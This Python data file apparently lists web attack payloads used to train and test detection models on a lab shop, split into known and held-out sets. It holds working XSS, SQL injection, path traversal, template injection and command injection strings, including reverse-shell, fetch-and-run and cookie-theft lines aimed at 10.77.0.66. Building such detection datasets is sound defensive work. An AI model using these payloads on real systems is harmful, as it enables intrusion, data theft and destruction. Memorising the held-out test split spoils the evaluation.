"""What a person types into a shop to break it: two disjoint sets, by kind of attempt.

`KNOWN` is played for the recording models learn from, `HELD_OUT` for the one they are tested on.
`{}` stands for a parameter of the shop; each payload is tried where its kind makes sense.
"""

from __future__ import annotations

QUERY = ("/search?q={}", "/product?id={}")
FILE = ("/page?name={}",)
HOST = ("/lookup?host={}",)
PLAIN = ("{}",)

Attempts = tuple[tuple[tuple[str, ...], tuple[str, ...]], ...]

KNOWN: Attempts = (
    (
        QUERY,
        (
            "<script>alert(document.cookie)</script>",
            '"><img src=x onerror=alert(1)>',
            "'><svg/onload=fetch('//10.77.0.66/'+document.cookie)>",
            "<body onload=alert('x')>",
            "javascript:alert(1)",
            "1'",
            "1 OR 1=1--",
            "1 AND 1=2",
            "1 ORDER BY 5--",
            "-1 UNION SELECT name,password,role,1 FROM users--",
            "' UNION SELECT 1,name||':'||password,role FROM users--",
            "' OR '1'='1",
            "'; DROP TABLE users;--",
            "1; SELECT randomblob(100000000)--",
            "(SELECT group_concat(sql) FROM sqlite_master)",
            "{{7*7}}",
            "${jndi:ldap://10.77.0.66:1389/a}",
            '<!--#exec cmd="id" -->',
        ),
    ),
    (
        FILE,
        (
            "../../../etc/passwd",
            "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "....//....//....//etc/shadow",
            "../../../../var/log/auth.log",
            "php://filter/convert.base64-encode/resource=index.php",
            "/proc/self/environ",
            "http://10.77.0.66/x.txt",
            "../shop.py",
        ),
    ),
    (
        HOST,
        (
            "localhost;id",
            "localhost|cat /etc/passwd",
            "$(wget http://10.77.0.66/x.sh -O- | sh)",
            "`nc 10.77.0.66 4444 -e /bin/sh`",
            "localhost && uname -a",
            "127.0.0.1; curl 10.77.0.66/b | bash",
        ),
    ),
    (
        PLAIN,
        (
            "/.git/config",
            "/.env",
            "/cgi-bin/test.cgi?() { :;}; /bin/cat /etc/passwd",
            "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
        ),
    ),
)

HELD_OUT: Attempts = (
    (
        QUERY,
        (
            "<iframe src=javascript:alert(2)>",
            "%253Cscript%253Ealert(3)%253C/script%253E",
            "<details open ontoggle=prompt(document.domain)>",
            "x') AND SLEEP(5)--",
            "3 AND (SELECT COUNT(*) FROM sqlite_master)>0",
            "2;DROP TABLE products",
            "0 UNION ALL SELECT NULL,tbl_name,sql,NULL FROM sqlite_master LIMIT 1",
            "5 AND SUBSTR((SELECT password FROM users LIMIT 1),1,1)='t'",
            "admin' /*",
            "<%= system('id') %>",
            "#{7*191}",
        ),
    ),
    (
        FILE,
        (
            "%2e%2e/%2e%2e/%2e%2e/etc/group",
            "../../../../../windows/win.ini",
            "..\\..\\..\\boot.ini",
            "file:///etc/hosts",
            "/etc/nginx/nginx.conf",
        ),
    ),
    (
        HOST,
        (
            "shop.range&&whoami",
            "x%0acat%20/etc/hosts",
            "a||ping -c 3 10.77.0.44",
            ";python3 -c 'import pty'",
        ),
    ),
    (
        PLAIN,
        ("/wp-login.php?action=register", "/phpmyadmin/index.php?lang=en%27", "/etc/passwd%00.jpg"),
    ),
)


def paths(attempts: Attempts) -> list[str]:
    """Every payload in every place its kind makes sense."""
    return [
        place.replace("{}", payload)
        for places, payloads in attempts
        for payload in payloads
        for place in places
    ]
